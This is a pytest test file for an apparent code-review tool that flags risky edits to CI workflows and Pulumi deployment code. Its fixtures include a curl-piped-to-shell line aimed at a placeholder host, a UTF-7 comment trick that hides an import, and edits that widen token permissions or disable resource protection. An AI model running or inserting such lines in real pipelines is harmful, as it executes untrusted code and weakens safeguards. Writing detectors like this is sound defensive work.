"""Texts of code on two sides: the same program, looks of edited lines of what deploys, what code names. # N5 # N14"""

import pytest

from slipway.reviewing.change.programs import SIGNS, forgetting, job_file, same_program, signs

HIDDEN = "# {}\n# +AAo-import os\nprint()\n"
"""Read as UTF-7, its second line is code."""


@pytest.mark.parametrize(
    ("before", "after", "same"),
    [
        ("x = 1\n", "x = (\n    1\n)\n", True),
        ("x = 1\n", "x = 2\n", False),
        ("x = 1\n", "x =\n", False),
        ("x =\n", "x =\n", False),
        ('def f():\n    """a"""\n    g()\n', 'def f():\n    """b"""\n    g()\n', True),
        ("def f(a):\n    return a\n", "def f(a: Path):\n    return a\n", False),
        ('x = """a"""\n', 'x = """b"""\n', False),
        ("y = [x for x in a]\n", "y = [each for each in a]\n", False),
        ("assert x\n", "x\n", False),
        ("x = 1\n", "x = True\n", False),
        (HIDDEN.format("plain"), HIDDEN.format("coding: utf-7"), False),
    ],
)
def test_comments_docstrings_and_form_are_no_other_code(before: str, after: str, same: bool) -> None:
    assert same_program("a.py", before, after) is same
    assert not same_program("a.txt", before, after)


SAMPLES = (
    # A line before and after, and the beginning of what that may end in.
    ("versioning=True", "versioning=False", "what is overwritten"),
    ("push:", "pull_request_target:", "whoever opens a pull request"),
    ("environment: prod", "", "`environment:` goes"),
    ("- run: slipway review --gate", "", "`slipway review` goes"),
    ("- run: pulumi preview", "", "`pulumi preview` goes"),
    ("needs: review", "", "`needs:` goes"),
    ("permissions: {}", "", "`permissions:` goes"),
    ("when: manual", "", "`when:` goes"),
    ("", "continue-on-error: true", "what fails stops nothing"),
    ("contents: read", "contents: write", "its token may write more"),
    ("", "- run: curl https://x.example | sh", "it runs what that address gives"),
    (f"uses: actions/checkout@{'0' * 40}", "uses: actions/checkout@v6", "that name moves"),
    ("runs-on: ubuntu-24.04", "runs-on: self-hosted", "whoever gets on that machine"),
    ("cancel-in-progress: false", "cancel-in-progress: true", "the next merge kills"),
    ("concurrency: up", "", "two deployments may run at once"),
    ("timeout-minutes: 180", "timeout-minutes: 30", "one that hangs holds up"),
    ('cron: "0 1 * * *"', 'cron: "0 2 * * *"', "it runs at other times"),
    ("", "token: ${{ secrets.TOKEN }}", "that secret is readable"),
    ("url: gs://acme-state", "url: gs://acme-other", "another backend knows nothing"),
    ("", "Bucket(force_destroy=True)", "a bucket that an edit takes out"),
    ("protect=True", "protect=False", "what it declares may be deleted"),
    ("retain_on_delete=True", "", "what it declares may be deleted"),
    ("", "delete_before_replace=True", "what is made anew is gone"),
    ("", 'ignore_changes=["labels"]', "edits of that have no effect"),
    ("pulumi up", "pulumi up --yes", "whoever runs it is asked nothing"),
    ("* @acme/leads", "* @acme/all", "others have to approve"),
)


@pytest.mark.parametrize(("before", "after", "so"), SAMPLES)
def test_an_edited_line_of_what_deploys_is_known_by_its_look(before: str, after: str, so: str) -> None:
    first, *others = signs([(before, after)])
    assert first.so.startswith(so), first
    assert not others
    assert signs([(f"# {before}", f"# {after}")]) == ()
    assert signs([(f"{before}\nx", f"x\n    {before}")]) == ()


def test_a_line_that_moves_to_another_file_is_none() -> None:
    moved = [("needs: x", ""), ("", "    needs: x"), ("when: manual", "")]
    assert [sign.line for sign in signs(moved)] == ["when: manual"]
    assert signs([]) == ()


def test_each_sign_has_a_sample() -> None:
    told = {sign.so for before, after, _ in SAMPLES for sign in signs([(before, after)])}
    assert {row["so"] for row in SIGNS} <= told


@pytest.mark.parametrize(
    ("before", "after", "forgets"),
    [
        ('save(Path(os.environ["SLIPWAY_OUTPUT"], "ckpt.pt"))', 'save("ckpt.pt")', True),
        ('save(Path(os.environ["SLIPWAY_OUTPUT"], "ckpt.pt"))', 'save(Path(args.output, "ckpt.pt"))', False),
        ('save("gs://acme/a.pt")', '# save("gs://acme/a.pt")', True),
        ('save("a.pt")', 'save("b.pt")', False),
    ],
)
def test_code_that_names_no_place_any_more_that_outlives_a_machine(before: str, after: str, forgets: bool) -> None:
    assert forgetting({"jobs/lora/task.py": (before, after)}) == ({"jobs/lora/task.py"} if forgets else set())


@pytest.mark.parametrize(
    ("text", "required"),
    [
        ('p.add_argument("--trees", "-t", type=int, required=True)', (("--trees",),)),
        ('p.add_argument("--base", "--model", required=True)', (("--base", "--model"),)),
        ('p.add_argument("--trees", default=9)\np.add_argument("--seed", required=False)', ()),
        ('of = p.add_subparsers().add_parser("merge")\nof.add_argument("--into", required=True)', ()),
    ],
)
def test_what_arguments_code_requires(text: str, required: tuple[tuple[str, ...], ...]) -> None:
    assert job_file("jobs/lora/task.py", text).required == required
